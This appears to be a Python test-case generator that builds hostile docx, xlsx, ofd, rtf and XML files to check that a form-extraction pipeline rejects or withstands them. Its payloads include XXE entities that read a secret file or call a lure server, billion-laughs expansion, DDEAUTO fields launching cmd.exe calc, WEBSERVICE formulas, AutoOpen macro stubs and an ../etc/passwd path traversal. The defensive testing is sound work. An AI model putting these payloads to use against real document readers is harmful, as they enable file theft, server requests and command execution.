"""Office packages (docx, xlsx, ofd) and XML: entities, links, formulas, macros, huge dimensions."""

import io
import re
import zipfile
from collections.abc import Iterator, Mapping
from xml.sax.saxutils import escape

from tests.extract import ofds
from tests.hostile.good import filing
from tests.hostile.model import Case, Lures, Row, failed, formless, like, survived

FORM = "f01_national_project_target"
DOCX, XLSX = f"good/{FORM}.docx", f"good/{FORM}.xlsx"
_DTD = "document type|DTD|entity"
_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ENDS = ("ok", "needs_review", "no_form", "failed")
_MACRO = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name\0AutoOpen Shell calc.exe" * 20


def members(data: bytes) -> dict[str, bytes]:
    """The members of a package."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Mapping[str, bytes | str]) -> bytes:
    """A package of ``parts``."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return file.getvalue()


def altered(data: bytes, name: str, old: str, new: str) -> bytes:
    """A package in which the first ``old`` (a pattern) of a member is ``new``."""
    parts = members(data)
    text, count = re.subn(old, lambda found: found.expand(new), parts[name].decode(), count=1, flags=re.S)
    assert count, f"{name} holds no {old}"
    return packed(parts | {name: text.encode()})


def doctypes(lures: Lures) -> dict[str, tuple[str, str]]:
    """Document types and what calls for their entities: files, servers, and growth without end."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return {
        "file": (f'<!DOCTYPE a [<!ENTITY x SYSTEM "{lures.secret.as_uri()}">]>', "&x;"),
        "server": (f'<!DOCTYPE a [<!ENTITY x SYSTEM "{lures.url}/xxe">]>', "&x;"),
        "parameter": (f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{lures.url}/a.dtd"> %x;]>', ""),
        "dtd": (f'<!DOCTYPE a SYSTEM "{lures.secret.as_uri()}">', ""),
        "laughs": (f'<!DOCTYPE a [<!ENTITY l0 "哈哈哈">{levels}]>', "&l11;"),
        "blowup": (f'<!DOCTYPE a [<!ENTITY x "{"哈" * 100_000}">]>', "&x;" * 20_000),
    }


def with_doctype(data: bytes, doctype: str, call: str) -> bytes:
    """An XML part with a document type, and its entity called for in the first element."""
    text = data.decode()
    head = re.match(r"\s*(?:<\?xml.*?\?>)?\s*", text, re.S)
    assert head is not None
    root = text[head.end() :]
    begin = re.search(r"<[^!?][^>]*[^/]>", root)
    at = begin.end() if begin else len(root)
    return f"{head[0]}{doctype}{root[:at]}{call}{root[at:]}".encode()


def entities(lures: Lures) -> Iterator[Case]:
    """Document types in every part that a reader opens."""
    ofd = ofds.packed(ofds.members_of([ofds.page_xml([ofds.text(50, 50, "绩效目标表")])]))
    parts = {
        "docx": ("[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels"),
        "xlsx": (
            "_rels/.rels",
            "xl/workbook.xml",
            "xl/styles.xml",
            "xl/worksheets/sheet1.xml",
            "xl/sharedStrings.xml",
        ),
        "ofd": ("OFD.xml", "Doc_0/Document.xml", "Doc_0/Pages/0.xml"),
    }
    sources = {"docx": filing(FORM, "docx"), "xlsx": _with_strings(), "ofd": ofd}
    kinds = doctypes(lures)
    for format, names in parts.items():
        for number, part in enumerate(names):
            # Each part with one kind, and the one that holds the content with all of them.
            chosen = (
                list(kinds)
                if part.endswith(("document.xml", "sheet1.xml", "0.xml"))
                else [list(kinds)[number % 4]]
            )
            for kind in chosen:
                whole = members(sources[format])
                data = packed(whole | {part: with_doctype(whole[part], *kinds[kind])})
                name = f"xml/{format}_{part.rpartition('/')[2].split('.')[0]}_{kind}.{format}"
                if part == "[Content_Types].xml":  # nobody looks at it
                    yield like(name, data, DOCX)
                else:
                    yield failed(name, data, _DTD)


def _with_strings() -> bytes:
    """A workbook with a table of texts."""
    target = (
        f'<Relationship Id="s" Type="{_TYPES}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    book = altered(filing(FORM, "xlsx"), "xl/_rels/workbook.xml.rels", "</Relationships>", target)
    return packed(members(book) | {"xl/sharedStrings.xml": b"<sst><si><t>1</t></si></sst>"})


def _relation(kind: str, target: str) -> str:
    return (
        f'<Relationship Id="evil_{kind}" Type="{_TYPES}/{kind}" Target="{escape(target)}"'
        ' TargetMode="External"/>'
        r"\g<0>"
    )


def links(lures: Lures) -> Iterator[Case]:
    """Good filings that link to what is not theirs, calculate, call and carry macros."""
    docx, xlsx = filing(FORM, "docx"), filing(FORM, "xlsx")
    secret, url = lures.secret.as_uri(), lures.url
    linked = docx
    for kind in ("attachedTemplate", "image", "oleObject", "aFChunk", "hyperlink", "frame", "subDocument"):
        target = secret if kind in ("aFChunk", "oleObject") else f"{url}/{kind}"
        linked = altered(linked, "word/_rels/document.xml.rels", "</Relationships>", _relation(kind, target))
    fields = "".join(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{escape(code)}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for code in (
            r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
            f'INCLUDETEXT "{secret}"',
            f'INCLUDEPICTURE "{url}/i"',
        )
    )
    chunks = '<w:altChunk r:id="evil_aFChunk"/><w:subDoc r:id="evil_subDocument"/>'
    ole = '<o:OLEObject xmlns:o="urn:o" Type="Link" r:id="evil_oleObject"/>'
    drawn = f"<w:p><w:r><w:object>{ole}</w:object></w:r></w:p>"
    spaces = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    body = altered(
        linked,
        "word/document.xml",
        r"<w:body>",
        r"<w:body>" + (fields + chunks + drawn).replace("\\", "\\\\").replace("r:id", f"{spaces} r:id"),
    )
    yield like("links/template_and_objects.docx", linked, DOCX)
    # What is embedded is told of, so that the form wants a look; it is read like the good one.
    yield like("links/fields_and_chunks.docx", body, DOCX)
    yield like("macros/autoopen.docm", packed(members(docx) | {"word/vbaProject.bin": _MACRO}), DOCX)
    yield like("macros/autoopen.xlsm", packed(members(xlsx) | {"xl/vbaProject.bin": _MACRO}), XLSX)
    book = altered(
        xlsx, "xl/_rels/workbook.xml.rels", "</Relationships>", _relation("externalLink", f"{url}/book.xlsx")
    )
    extra = {
        "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        "xl/connections.xml": f'<connections><webPr url="{url}/c"/></connections>'.encode(),
        "customXml/item1.xml": with_doctype(b"<a></a>", *doctypes(lures)["file"]),
    }
    yield like("links/connections.xlsx", packed(members(book) | extra), XLSX)
    formulas = (f'WEBSERVICE("{url}/w")', "cmd|'/c calc'!A0", f"'{secret}'!A1", f'HYPERLINK("{url}","x")')
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><f>{escape(code)}</f></c></row>' for n, code in enumerate(formulas, 1)
    )
    sheet = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
    yield formless("links/formulas.xlsx", packed(members(xlsx) | {"xl/worksheets/sheet1.xml": sheet}))
    cell = r'(<c r="B4" s="\d+" )t="inlineStr"><is><t>(.*?)</t></is>'
    formula = escape(formulas[0])
    cached = altered(xlsx, "xl/worksheets/sheet1.xml", cell, rf'\1t="str"><f>{formula}</f><v>\2</v>')
    yield like("links/formula_with_result.xlsx", cached, XLSX)


def dimensions() -> Iterator[Case]:
    """Cells and spans beyond all measure."""
    docx, xlsx = filing(FORM, "docx"), filing(FORM, "xlsx")
    sheet = "xl/worksheets/sheet1.xml"
    yield like(
        "huge/dimension.xlsx",
        altered(xlsx, sheet, r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"'),
        XLSX,
    )
    far = altered(
        xlsx,
        sheet,
        "</sheetData>",
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>远</t></is></c></row></sheetData>',
    )
    yield survived("huge/far_cell.xlsx", far, ("ok", "needs_review", "failed"))
    beyond = altered(
        xlsx,
        sheet,
        "</sheetData>",
        '<row r="99999999999"><c r="ZZZZ99999999999" t="inlineStr"><is><t>远</t></is></c></row></sheetData>',
    )
    yield failed("huge/beyond_cell.xlsx", beyond, "damaged|too large")
    merged = altered(xlsx, sheet, r"<mergeCells.*?>", r'\g<0><mergeCell ref="A1:XFD1048576"/>')
    yield survived("huge/merged.xlsx", merged, _ENDS)
    many = "".join(f'<mergeCell ref="A{n}:XFD{n}"/>' for n in range(100, 600))
    yield survived("huge/many_merged.xlsx", altered(xlsx, sheet, r"<mergeCells.*?>", rf"\g<0>{many}"), _ENDS)
    style = altered(xlsx, sheet, r'<c ([^>]*?)s="\d+"', r'<c \1s="4294967295"')
    yield survived("huge/style.xlsx", style, ("ok", "needs_review", "failed"))
    text = "文" * 10 * 2**20
    tall = altered(
        xlsx,
        sheet,
        "</sheetData>",
        f'<row r="900"><c r="A900" t="inlineStr"><is><t>{text}</t></is></c></row></sheetData>',
    )
    yield survived("huge/text_in_cell.xlsx", tall, ("ok", "needs_review", "failed"))
    document = "word/document.xml"
    for n, span in enumerate((10**9, -1, 2**63)):
        wide = altered(docx, document, r"<w:tcPr>", f'<w:tcPr><w:gridSpan w:val="{span}"/>')
        yield survived(f"huge/span_{n}.docx", wide, _ENDS)
    before = altered(docx, document, "<w:tr>", '<w:tr><w:trPr><w:gridBefore w:val="1000000000"/></w:trPr>')
    yield survived("huge/grid_before.docx", before, _ENDS)
    deep = "<w:tbl><w:tr><w:tc>" * 5_000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 5_000
    yield failed(
        "huge/tables_in_tables.docx",
        altered(docx, document, "<w:body>", f"<w:body>{deep}"),
        "damaged|deep|depth",
    )
    nested = "<w:tbl><w:tr><w:tc>" * 60 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 60
    yield survived(
        "huge/60_tables_deep.docx",
        altered(docx, document, "<w:body>", f"<w:body>{nested}"),
        ("ok", "needs_review", "failed"),
    )
    attributes = " ".join(f'a{n}="1"' for n in range(200_000))
    yield survived(
        "huge/attributes.docx",
        altered(docx, document, "<w:body>", f"<w:body {attributes}>"),
        ("ok", "needs_review", "failed"),
    )
    for n, box in enumerate(("0 0 1e9 1e9", "0 0 nan inf", "0 0 -5 -5", "0 0 0 0")):
        page = ofds.page_xml([ofds.text(50, 50, "绩效目标表")], size=box)
        yield survived(f"huge/page_{n}.ofd", ofds.packed(ofds.members_of([page])), ("no_form", "failed"))
    run = ofds.page_xml(
        [
            '<ofd:TextObject ID="1" Boundary="0 0 9 9" Font="2" Size="3">'
            '<ofd:TextCode X="0" Y="3" DeltaX="g 999999999 1">绩效</ofd:TextCode></ofd:TextObject>'
        ]
    )
    yield survived("huge/run_length.ofd", ofds.packed(ofds.members_of([run])), ("no_form", "failed"))
    loop = ofds.members_of([ofds.page_xml([])])
    yield survived(
        "huge/page_is_document.ofd",
        ofds.packed(loop | {"Doc_0/Pages/0.xml": loop["Doc_0/Document.xml"]}),
        ("no_form", "failed"),
    )
    outside = {
        name: data.replace("Pages/0.xml", "../../../../../../etc/passwd") if isinstance(data, str) else data
        for name, data in loop.items()
    }
    yield failed("huge/page_outside.ofd", ofds.packed(outside), "damaged|missing")


def office_xml(lures: Lures) -> Iterator[Case]:
    """What LibreOffice converts: entities, links and fields that call for what is not theirs."""
    doctype, call = doctypes(lures)["file"]
    secret, url = lures.secret.as_uri(), lures.url
    statuses = ("no_form", "failed", "unsupported")
    sheet = (
        f'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>{doctype}'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"'
        ' xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="a"><Table><Row>'
        f'<Cell ss:Formula="=WEBSERVICE(&quot;{url}/s&quot;)"><Data ss:Type="String">{call}</Data></Cell>'
        "</Row></Table></Worksheet></Workbook>"
    )
    word = (
        f'<?xml version="1.0"?><?mso-application progid="Word.Document"?>{doctype}'
        '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body><w:p><w:r>'
        f"<w:t>{call}绩效目标表</w:t></w:r></w:p></w:body></w:wordDocument>"
    )
    fields = (
        r"{\rtf1\ansi{\*\template "
        + url
        + r"/t.dot}{\field{\*\fldinst INCLUDETEXT "
        + f'"{secret}"'
        + r"}{\fldrslt }}"
        r"{\field{\*\fldinst INCLUDEPICTURE " + f'"{url}/p.png"' + r" \\d}{\fldrslt }}"
        r"{\field{\*\fldinst DDEAUTO cmd.exe calc}{\fldrslt }}"
        r"{\object\objautlink\objupdate{\*\objdata 0105}}text\par}"
    )
    yield Case("office/entity.xls", sheet.encode(), {"": Row(statuses)})
    yield Case("office/entity.doc", word.encode(), {"": Row(statuses)})
    yield Case("office/fields.rtf", fields.encode(), {"": Row(statuses)})


def all_cases(lures: Lures) -> Iterator[Case]:
    """Every hostile package."""
    yield from entities(lures)
    yield from links(lures)
    yield from dimensions()
    yield from office_xml(lures)
